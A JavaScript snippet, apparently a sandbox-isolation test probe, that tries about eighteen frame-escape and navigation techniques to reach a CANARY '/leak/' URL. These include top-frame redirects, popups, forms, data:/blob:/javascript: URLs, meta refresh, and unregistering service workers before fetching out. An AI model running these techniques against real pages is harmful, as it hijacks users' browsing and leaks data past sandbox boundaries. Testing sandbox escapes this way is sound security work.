(() => {
  let T = globalThis; try { while (T.parent !== T && T.parent.location.href) T = T.parent; } catch {}
  const to = (name) => CANARY + '/leak/' + name;
  const late = [
    () => { top.location = to('top'); },
    () => { window.open(to('opentop'), '_top'); },
    () => { const a = document.createElement('a'); a.href = to('linktop'); a.target = '_top'; document.body.append(a); a.click(); },
    () => { const f = document.createElement('form'); f.action = to('formtop'); f.target = '_top'; document.body.append(f); f.submit(); },
    () => { T.location = to('cellframe'); },
    () => { T.navigation.navigate(to('navigate')); },
    () => { const a = document.createElement('a'); a.href = to('download'); a.download = 'x'; document.body.append(a); a.click(); },
    () => (h => { const d = document.createElement('div'); d.innerHTML = h; document.body.append(d); return d.firstElementChild; })(`<a href="${to('target')}" target=_blank>x</a>`).click(),
    () => (h => { const d = document.createElement('div'); d.innerHTML = h; document.body.append(d); return d.firstElementChild; })(`<a href="${to('noopener')}" target=_blank rel=noopener>x</a>`).click(),
    () => T.open(to('popup')),
    () => { const w = T.open('about:blank'); w.location = to('blankpopup'); },
    () => { location.assign(to('assign')); },
    () => { top.postMessage({url: to('toppost')}, '*'); top.open(to('topopen'), '_self'); },
    () => { T.location.replace('data:text/html,<img src=' + to('dataself') + '>'); },
    () => { T.location.href = URL.createObjectURL(new Blob(['<img src=' + to('blobself') + '>'], {type: 'text/html'})); },
    () => { const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + to('refreshself'); document.head.append(m); },
    () => { location.href = "javascript:'<img src=" + to('jsself') + ">'"; },
    () => { T.navigator.serviceWorker.getRegistrations().then(all => Promise.all(all.map(one => one.unregister()))).then(() => { T.fetch(to('unregistered'), {mode: 'no-cors'}); T.location.reload(); }); },
  ];
  late.forEach((go, n) => setTimeout(() => { try { go(); } catch (e) {} }, 150 * n));
})();
